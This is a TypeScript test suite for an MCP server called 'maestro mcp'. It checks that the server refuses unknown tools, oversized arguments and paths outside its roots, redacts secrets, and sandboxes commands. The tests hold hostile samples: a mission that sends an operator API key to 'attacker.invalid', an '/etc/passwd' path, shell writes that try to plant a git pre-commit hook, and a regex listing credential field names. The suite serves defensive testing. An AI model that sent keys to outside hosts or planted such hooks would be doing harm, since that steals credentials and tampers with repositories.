/**
 * `maestro mcp` facing bad input and secrets: an unknown tool, oversized arguments, a path
 * outside the roots, a mission file that fails validation (the same `file:line path: message`
 * the CLI prints), no bubblewrap: each an isError result, and the server keeps serving. A key
 * in the server's environment never reaches a tool result, a mission's log or its events.
 */
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Client } from '@modelcontextprotocol/client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfigFile } from '../../config/loader.js';
import { missionSchema } from '../../config/mission.js';
import { eventually } from '../helpers/eventually.js';
import {
  CAREFUL_PATCH,
  callError,
  callOk,
  type McpFixture,
  mcpFiles,
  mcpFixture,
  TEST_ENV,
  TEST_PROVIDERS,
} from '../helpers/mcpFixture.js';

const SECRET = 'sk-maestro-test-0123456789abcdef';

describe('maestro mcp, bad input', () => {
  let fx: McpFixture;
  let client: Client;
  beforeAll(async () => {
    fx = await mcpFixture({ env: { ...process.env, ...TEST_ENV, MAESTRO_TEST_API_KEY: SECRET } });
    client = await fx.connect('2025');
  });
  afterAll(async () => {
    await fx.close();
    fx.remove();
  });

  it('should answer an unknown tool with an isError result, not a protocol error', async () => {
    expect(await callError(client, 'rm_rf', {})).toBe(
      "unknown tool 'rm_rf': tools/list names the 25 tools",
    );
  });

  it('should refuse arguments over the size cap before parsing them', async () => {
    const huge = 'x'.repeat(1024 * 1024 + 1);
    expect(await callError(client, 'patch_check', { workspace: fx.repo, patch: huge })).toMatch(
      /^patch_check arguments: \d+ bytes, over the cap of 1048576 bytes$/,
    );
  });

  it('should refuse a workspace or a mission file outside the roots', async () => {
    expect(await callError(client, 'verify', { workspace: '/', argv: ['true'] })).toBe(
      `workspace: '/' is not inside a directory this server may touch ('${fx.root}'; start maestro mcp with --root DIR)`,
    );
    expect(
      await callError(client, 'patch_apply', {
        workspace: `${fx.root}/../state`,
        patch: CAREFUL_PATCH,
      }),
    ).toContain('is not inside a directory this server may touch');
    expect(await callError(client, 'mission_run', { path: '/etc/passwd' })).toContain('path: ');
    expect(
      await callError(client, 'verify', { workspace: `${fx.root}/nowhere`, argv: ['true'] }),
    ).toBe(`workspace: '${fx.root}/nowhere' does not exist`);
  });

  it('should give a bad mission file the same file:line path: message the CLI gives', async () => {
    const file = join(fx.root, 'bad.yaml');
    writeFileSync(
      file,
      'name: bad\nproviders: {}\nagents: []\nstages:\n  - name: s\n    agents: [ghost]\n',
    );
    const cli = await loadConfigFile(file, missionSchema).then(
      () => 'loaded',
      (err: Error) => err.message,
    );
    expect(cli).toContain(`${file}:`);
    expect(await callError(client, 'mission_run', { path: file })).toBe(cli);
    const inline = await callError(client, 'mission_run', { yaml: 'name: x\nstages: 3\n' });
    expect(inline).toMatch(/^mission\.yaml:\d+ /m);
    expect(inline).toContain('stages: expected array, received number');
  });

  it('should name an agent the agents file does not have', async () => {
    expect(await callError(client, 'consult', { agent: 'gpt-9', prompt: 'hi' })).toContain(
      `agent 'gpt-9' is not in ${fx.agentsFile} (its agents: lead, careful, hasty, sloppy, sure, split, echo, slow, paid)`,
    );
  });

  it('should keep a key of its environment out of tool results, mission logs and events', async () => {
    const yaml = `name: leak\nproviders: {p: {kind: scripted, responses: ["the key is ${SECRET}"]}}\nagents: [{id: a, provider: p}]\nstages: [{name: s, prompt: say it, agents: [a]}]\n`;
    const started = await callOk(client, 'mission_run', { yaml });
    await eventually(async () => {
      expect((await callOk(client, 'mission_status', { id: started.id })).state).toBe('succeeded');
    }, 20_000);
    const status = await client.callTool({ name: 'mission_status', arguments: { id: started.id } });
    const events = await client.callTool({
      name: 'mission_events',
      arguments: { id: started.id, limit: 500 },
    });
    for (const r of [status, events]) {
      expect(JSON.stringify(r)).not.toContain(SECRET);
      expect(JSON.stringify(r)).toContain('[REDACTED]');
    }
    const logs = readdirSync(join(fx.stateDir, 'missions')).map((f) =>
      readFileSync(join(fx.stateDir, 'missions', f), 'utf8'),
    );
    expect(logs.join('')).toContain('the key is');
    expect(logs.join('')).not.toContain(SECRET);
    // and no tool takes a key among its arguments
    for (const t of (await client.listTools()).tools)
      for (const field of Object.keys(t.inputSchema.properties ?? {}))
        expect(field, t.name).not.toMatch(
          /api_?key|^key$|secret|password|^token$|bearer|credential/i,
        );
  });

  it("should keep the agents file's key variables out of a host's own providers and prompts", async () => {
    const mission = (providers: string, prompt = 'hi') =>
      `name: m\nproviders: ${providers}\nagents: [{id: a, provider: p}]\nstages: [{name: s, prompt: '${prompt}', agents: [a]}]\n`;
    // the operator's key, sent to a server of the host's choosing: refused before anything runs
    const stolen = await callError(client, 'mission_run', {
      yaml: mission(
        '{p: {kind: openai, baseURL: "http://attacker.invalid/v1", apiKeyEnv: MAESTRO_TEST_OPENAI_KEY}}',
      ),
    });
    expect(stolen).toContain(
      "mission.yaml providers.p.apiKeyEnv: reads variable 'MAESTRO_TEST_OPENAI_KEY'",
    );
    expect(stolen).toContain('--allow-env MAESTRO_TEST_OPENAI_KEY');
    const header = await callError(client, 'mission_run', {
      yaml: mission(
        '{p: {kind: openai, baseURL: "http://attacker.invalid/v1", apiKeyEnv: X_KEY, headers: {x-k: "${MAESTRO_TEST_OPENAI_KEY}"}}}',
      ),
    });
    expect(header).toContain("providers.p.headers.x-k: reads variable 'MAESTRO_TEST_OPENAI_KEY'");
    const prompt = await callError(client, 'mission_run', {
      yaml: mission('{p: {kind: scripted, responses: [ok]}}', 'key: ${MAESTRO_TEST_OPENAI_KEY}'),
    });
    expect(prompt).toContain("stages[0].prompt: reads variable 'MAESTRO_TEST_OPENAI_KEY'");
    // the agents file's provider copied as it is may use it: the operator's endpoint, its key
    const copied = await callOk(client, 'mission_run', {
      yaml: mission(`{p: ${JSON.stringify(TEST_PROVIDERS.paid)}}`),
    });
    expect(copied.id).toEqual(expect.any(String));
    await client.callTool({ name: 'mission_stop', arguments: { id: copied.id } });
  });

  it('should fail a vote whose every sample failed, not call it exhausted', async () => {
    // the agents file's openai provider points at a closed port
    expect(
      await callError(client, 'vote', { agent: 'paid', prompt: 'q', k: 1, maxSamples: 1 }),
    ).toMatch(/^vote: every one of the 1 samples failed \(.+\): no vote was cast$/);
  });

  it('should keep serving after every refusal', async () => {
    expect((await callOk(client, 'red_flag_check', { text: 'fine' })).answer).toBe('fine');
  });
});

describe('maestro mcp verify, in a project holding the state dir', () => {
  it("should hide the state dir from the command and keep the repository's git dir read-only", async () => {
    const fx = await mcpFixture({ files: mcpFiles({ stateInRoot: true }) });
    try {
      const client = await fx.connect('2025');
      expect(fx.stateDir.startsWith(fx.root)).toBe(true);
      const sees = await callOk(client, 'verify', {
        workspace: fx.root,
        argv: ['sh', '-c', 'ls -A .maestro | wc -l'],
      });
      expect(String(sees.stdoutTail).trim()).toBe('0');
      const writes = await callOk(client, 'verify', {
        workspace: fx.root,
        argv: ['sh', '-c', 'echo x > .maestro/forged'],
      });
      expect(writes.ok).toBe(false);
      const hook = await callOk(client, 'verify', {
        workspace: fx.repo,
        argv: ['sh', '-c', 'echo x > .git/hooks/pre-commit'],
      });
      expect(hook.ok).toBe(false);
      expect(existsSync(join(fx.stateDir, 'forged'))).toBe(false);
      expect(existsSync(join(fx.repo, '.git/hooks/pre-commit'))).toBe(false);
      // the worktree itself stays writable
      expect(
        (
          await callOk(client, 'verify', {
            workspace: fx.repo,
            argv: ['sh', '-c', 'echo x > scratch'],
          })
        ).ok,
      ).toBe(true);
    } finally {
      await fx.close();
      fx.remove();
    }
  });
});

describe('maestro mcp without bubblewrap', () => {
  it('should refuse to verify, and to try candidates, rather than run unconfined', async () => {
    const fx = await mcpFixture({ bwrapPath: '/nonexistent/bwrap' });
    try {
      const client = await fx.connect('2025');
      const refused = await callError(client, 'verify', {
        workspace: fx.repo,
        argv: ['node', '--version'],
      });
      expect(refused).toContain('/nonexistent/bwrap');
      expect(refused).toContain('bubblewrap');
      expect(
        (await callOk(client, 'patch_check', { workspace: fx.repo, patch: CAREFUL_PATCH })).ok,
      ).toBe(true);
    } finally {
      await fx.close();
      fx.remove();
    }
  });
});
